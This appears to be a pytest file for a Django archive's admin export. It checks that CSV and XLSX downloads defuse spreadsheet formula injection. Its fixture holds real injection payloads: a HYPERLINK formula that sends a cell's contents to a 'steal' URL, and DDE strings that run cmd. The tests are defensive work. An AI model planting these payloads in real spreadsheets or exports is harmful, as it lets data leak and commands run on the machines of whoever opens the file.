"""CSV injection: an archivist's export through the admin never hands a spreadsheet a formula to run."""

import csv
import io

import pytest
from openpyxl import load_workbook

from archive.models import Honoree

pytestmark = pytest.mark.django_db

FORMULAS = {
    "name": '=HYPERLINK("http://example.com/steal?d="&A1,"点我")',
    "employer": "+1+cmd|' /C calc'!A0",
    "title": "-2+3",
    "native_place": "@SUM(1+1)*cmd|' /C calc'!A0",
    "biography": "=1+1",
}


@pytest.fixture
def formula_honoree():
    return Honoree.objects.create(external_id="SEC-CSV-1", live=True, **FORMULAS)


@pytest.fixture
def archivist_client(client, make_user):
    client.force_login(make_user("export-archivist", "档案管理员"))
    return client


def test_csv_export_through_the_admin_neutralises_formulas(archivist_client, formula_honoree):
    response = archivist_client.get("/admin/archive/export/", {"format": "csv", "download": "1"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(row for row in rows if row["编号"] == "SEC-CSV-1")
    for label, value in (("姓名", FORMULAS["name"]), ("工作单位", FORMULAS["employer"]), ("职务职称", "-2+3")):
        assert row[label] == "'" + value, label
    assert row["籍贯"] == "'" + FORMULAS["native_place"]
    assert row["事迹"] == "'=1+1"
    for row in rows:  # no cell anywhere in the file starts a formula
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values() if cell)


def test_xlsx_export_through_the_admin_stores_formulas_as_text(archivist_client, formula_honoree):
    response = archivist_client.get("/admin/archive/export/", {"format": "xlsx", "download": "1"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = next(row for row in sheet.iter_rows(min_row=2) if row[header.index("编号")].value == "SEC-CSV-1")
    name = row[header.index("姓名")]
    assert name.data_type == "s" and name.value == "'" + FORMULAS["name"]
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
